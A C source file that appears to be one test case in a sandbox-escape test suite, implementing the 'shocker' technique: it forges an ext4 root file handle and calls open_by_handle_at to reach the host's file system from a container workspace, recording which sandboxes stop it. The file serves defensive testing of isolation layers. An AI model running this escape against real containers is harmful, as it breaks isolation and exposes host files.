/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Trick: open_by_handle_at() with the handle of the file system's root, which is known
 * without ever having seen it; from the workspace, which lies on the host's file system
 * ("shocker", of the first Docker).
 * Gain: the host's whole file system.
 * Expect: chroot=stops nspawn=stops container=stops
 * Expect root: chroot=escapes
 * Layer: user namespace
 * Layer container: filter of system calls
 */
#include "hostile.h"

struct handle {
	struct file_handle h;
	unsigned char bytes[MAX_HANDLE_SZ];
};

int main(void)
{
	struct handle h = { .h.handle_bytes = MAX_HANDLE_SZ };
	int mount_id, ws = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC), fd;
	uint32_t root[2] = { 2, 0 }; /* inode and generation; ext4's root is inode 2 */

	if (name_to_handle_at(ws, ".", &h.h, &mount_id, 0) < 0)
		failed("name_to_handle_at");
	/* with a handle of its own first: is the call to be had at all? */
	fd = open_by_handle_at(ws, &h.h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		failed("open_by_handle_at, of the workspace itself");
	if (h.h.handle_type != 1 || h.h.handle_bytes != 8)
		untried("handles of this file system are not of the kind inode, "
			"generation");
	(void)memcpy(h.h.f_handle, root, sizeof(root));
	fd = open_by_handle_at(ws, &h.h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		failed("open_by_handle_at, of the file system's root");
	if (secret_below(fd))
		escaped("opened the root of the host's file system by its handle");
	untried("inode 2 is not the root that the secret is in");
}
